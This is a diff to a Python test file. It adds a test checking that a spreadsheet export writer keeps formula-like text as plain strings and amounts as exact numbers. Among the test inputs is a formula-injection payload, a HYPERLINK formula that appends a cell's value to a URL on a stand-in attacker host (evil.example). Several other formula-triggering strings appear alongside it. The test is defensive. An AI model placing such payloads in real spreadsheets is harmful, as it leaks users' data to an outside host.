@@ -3,11 +3,13 @@
 from __future__ import annotations
 
 import io
+from decimal import Decimal
 
 import pytest
+import xlsxwriter
 from openpyxl import Workbook, load_workbook
 
-from govit.core.spreadsheets import row_append
+from govit.core.spreadsheets import row_append, xlsx_row_write
 
 
 @pytest.mark.parametrize(
@@ -54,3 +56,23 @@ def test_appending_a_row_never_measures_the_sheet(monkeypatch: pytest.MonkeyPatc
     second = row_append(sheet, [1, "=1+1"])
     assert [c.row for c in first + second] == [1, 1, 2, 2]
     assert second[1].value == "=1+1" and second[1].data_type == "s"
+
+
+@pytest.mark.parametrize(
+    "typed",
+    ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+1", "-2+3", "@SUM(A1:A2)", "=1+1", "\t=1"],
+)
+def test_the_large_exports_writer_keeps_formula_like_text_as_text(typed: str) -> None:
+    """``xlsx_row_write`` (XlsxWriter, row by row) gives the same guarantee as ``row_append``; amounts stay
+    numbers, exact to the yuan in 万元."""
+    buffer = io.BytesIO()
+    book = xlsxwriter.Workbook(buffer, {"constant_memory": True, "in_memory": True})
+    sheet = book.add_worksheet("表")
+    plain = book.add_format({})
+    xlsx_row_write(sheet, 0, ["项目", typed, Decimal("1234.5678"), None], [plain] * 4)
+    book.close()
+    cells = next(iter(load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows()))  # type: ignore[union-attr]
+    assert cells[1].value == typed
+    assert cells[1].data_type == "s"
+    assert Decimal(str(cells[2].value)) == Decimal("1234.5678") and cells[2].data_type == "n"
+    assert cells[3].value is None
